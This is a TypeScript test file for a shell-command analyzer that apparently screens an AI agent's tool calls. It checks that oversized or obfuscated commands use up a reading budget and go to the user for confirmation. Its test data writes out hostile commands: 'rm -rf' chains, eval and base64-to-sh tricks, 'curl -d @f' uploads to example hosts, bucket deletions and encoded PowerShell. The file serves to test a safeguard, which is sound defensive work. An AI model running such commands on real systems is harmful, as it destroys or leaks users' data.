/** What a call costs to be read is bounded in steps, and what is not read is asked about. docs/adr/0760. */
import { describe, expect, it } from 'vitest';
import { questionOf } from './confirmation.ts';
import { ownWordsOf } from './own-words.ts';
import { Budget, STEPS } from './shell-budget.ts';
import { shellEffects, TOO_LONG } from './shell-effects.ts';
import { readingOf } from './shell-reading.ts';

const CHARS = 32 * 1024 - 100;
const filled = (unit: string, chars = CHARS): string => unit.repeat(Math.floor(chars / unit.length));
const numbered = (unit: string, chars = CHARS): string => {
  let out = '';
  for (let i = 0; out.length + unit.length + 5 < chars; i += 1) out += unit.replaceAll('#', String(i));
  return out;
};
const nested = (open: string, close: string, core: string, chars: number): string => {
  const depth = Math.floor((chars - core.length) / (open.length + close.length));
  return open.repeat(depth) + core + close.repeat(depth);
};
const does = (command: string): readonly string[] => shellEffects(command).map((effect) => effect.does);

const HOSTILE: readonly (readonly [string, (chars: number) => string])[] = [
  ['separators', (n) => filled('rm;', n)],
  ['commands joined by &&', (n) => filled('a && ', n)],
  ['lines', (n) => filled('ls\n', n)],
  ['pipes', (n) => filled('a|', n)],
  ['substitutions', (n) => filled('$(a) ', n)],
  ['backticks', (n) => filled('`a` ', n)],
  ['nested substitutions', (n) => nested('$(', ')', 'rm -rf ~/work', n)],
  ['nested arithmetic', (n) => nested('$((', '))', '1', n)],
  ['nested process substitutions', (n) => nested('<(', ')', 'rm -rf ~/work', n)],
  ['quotes that do not end', (n) => filled('"$(a ', n)],
  ['brackets that do not end', (n) => filled('((', n)],
  ['shells in shells', (n) => filled("bash -c 'rm -rf /x';", n)],
  ['strings that are evaluated', (n) => filled('eval "rm -rf /x";', n)],
  ['here-documents of shells', (n) => numbered('bash <<E#\nrm /x#\nE#\n', n)],
  ['decoded pieces', (n) => filled('echo cm0=|base64 -d|sh;', n)],
  ['starters', (n) => filled('sudo a;', n)],
  ['a chain of starters', (n) => filled('sudo ', n)],
  ['a variable that is used often', (n) => `a=${'b'.repeat(100)};${filled('$a ', Math.max(n - 200, 0))}`],
  ['a variable of commands', (n) => `a='${filled('rm /x;', n / 2)}';${filled('sh -c "$a";', n / 2)}`],
  ['loops', (n) => `for x in ${filled('a ', n / 2)};do ${filled('rm $x;', n / 2)}done`],
  ['a folder that grows', (n) => filled('cd a;rm b;', n)],
  ['files that it writes and runs', (n) => numbered('echo rm > f#;sh f#;', n)],
  ['clients of the web', (n) => numbered('curl -d @f https://h#.example;', n)],
  ['programs that administer something', (n) => numbered('aws s3api delete-bucket --bucket b#;', n)],
  ['code', (n) => numbered('subprocess.run(["rm", "-rf", "/x/#"])\n', n)],
  ['find', (n) => numbered('find . -exec rm {} \\;;', n)],
];

const code = (chars: number): string =>
  numbered("export const f# = (a: string): string => `${a}-#`.split(',').join('\\n'); // it's \"fine\"\n", chars);
const script = numbered(
  'if [ ! -d "build/p#" ]; then\n  mkdir -p "build/p#"\nfi\nfor f in src/p#/*.c; do\n  gcc -O2 -c "$f" -o "build/p#/$(basename "$f" .c).o" || exit 1\ndone\nar rcs "build/p#.a" build/p#/*.o\nnpm run build --workspace p# 2>&1 | tee -a build.log | grep -v warning\n',
  20 * 1024,
);
const PATCH = `*** Begin Patch\n*** Update File: src/a.ts\n@@\n${code(29_000).replaceAll(/^/gm, '+')}\n*** End Patch\n`;
const ORDINARY: readonly (readonly [string, string])[] = [
  ['a file of 30 KB by a here-document', `cat > src/a.ts <<'EOF'\n${code(30_000)}EOF\n`],
  [
    'a letter by a here-document without quotes',
    `cat > a.md <<EOF\n${filled('It says what it does. ', 30_000)}\nEOF\n`,
  ],
  ['a patch of 30 KB', `apply_patch <<'EOF'\n${PATCH}EOF\n`],
  ['a build script of 20 KB', `set -euo pipefail\n${script}`],
  ['code of 30 KB', `python3 - <<'EOF'\n${numbered('print(re.sub("a", "b", t#), "done")\n', 30_000)}EOF\n`],
  ['a list of files', `git add ${numbered('src/part#/file.ts ', 30_000)}\n`],
  ['SQL', `psql <<'EOF'\n${numbered("insert into t# values (1, 'a');\n", 30_000)}EOF\n`],
  ['many edits', numbered("sed -i 's/a#/b#/g' src/file-#.ts\n", 15_000)],
];

describe('a hostile command of 32 KB', () => {
  it.each(HOSTILE)('of %s uses up its budget and is asked about for that', (_, made) => {
    const command = made(CHARS);
    expect(command.length).toBeLessThanOrEqual(32 * 1024);
    expect(does(command)).toContain(TOO_LONG);
  });

  it.each(HOSTILE)('of %s, or of any length before that, hides no deletion behind what is read', (_, made) => {
    for (const chars of [300, 1_000, 4_000, 16_000, CHARS]) {
      const effects = shellEffects(`${made(chars)}\nrm -rf ~/photos`);
      const isAsked = effects.some((effect) => effect.does === TOO_LONG || effect.targets.includes('~/photos'));
      expect(isAsked, `${chars}: ${effects.map((effect) => effect.does).join(', ')}`).toBe(true);
    }
  });

  it.each(HOSTILE)('of %s becomes no more commands than the budget has steps for', (_, made) => {
    const steps = 50_000;
    const { pipes } = readingOf(made(CHARS), new Budget(steps));
    expect(pipes.flat().length).toBeLessThanOrEqual((2 * steps) / STEPS.command);
  });
});

describe('an ordinary large command', () => {
  it.each(ORDINARY)('that is %s is read whole', (_, command) => {
    expect(command.length).toBeGreaterThan(14_000);
    expect(does(command)).toEqual([]);
  });

  it.each(ORDINARY)('that is %s is read to its end', (_, command) => {
    expect(does(`${command}rm -rf ~/work`)).toEqual(['deletes outside of its folder:']);
  });
});

describe('what a bound leaves out is asked about', () => {
  const ask = (name: string, args: object, user = 'Fix it'): string =>
    questionOf({ name, argumentsText: JSON.stringify(args) }, ownWordsOf('', [user]), { ask: ['shell'], targets: [] })
      ?.sentence ?? '';

  it('in a script that a call writes', () => {
    const small = `#!/bin/sh\n${filled('echo a\n', 20_000)}`;
    expect(ask('Write', { file_path: 'a.sh', content: small })).toBe('');
    expect(ask('Write', { file_path: 'a.sh', content: `${filled('echo a\n', 33_000)}rm -rf ~/work\n` })).toContain(
      TOO_LONG,
    );
    expect(ask('Write', { file_path: 'a.sh', content: `${filled('$(a) ')}\nrm -rf ~/work\n` })).toContain(TOO_LONG);
    expect(ask('Write', { file_path: 'src/a.ts', content: filled('$(a) ', 60_000) })).toBe('');
  });

  it('among many scripts that a command writes', () => {
    const command = numbered('cat > d#/Makefile <<E\na:\n\techo a\nE\n');
    expect(ask('Bash', { command: command.slice(0, 400) })).toBe('');
    expect(ask('Bash', { command })).toContain(TOO_LONG);
  });

  it('among encoded commands of PowerShell', () => {
    const encoded = (text: string): string => `powershell -enc ${Buffer.from(text, 'utf16le').toString('base64')};`;
    expect(ask('Bash', { command: encoded('dir a-folder').repeat(5) })).toBe('');
    expect(ask('Bash', { command: `${encoded('dir a-folder').repeat(20)}${encoded('rm -rf ~/work')}` })).toContain(
      'decodes',
    );
  });

  it('behind many deeds that the user named', () => {
    const named = 'aws s3 rb s3://old-logs;'.repeat(60);
    const user = 'Delete the bucket s3://old-logs';
    expect(ask('Bash', { command: named }, user)).toBe('');
    expect(ask('Bash', { command: `${named}aws s3 rb s3://customers` }, user)).toContain('customers');
    expect(ask('Bash', { command: `${named.repeat(20)}aws s3 rb s3://customers` }, user)).toContain(TOO_LONG);
  });
});
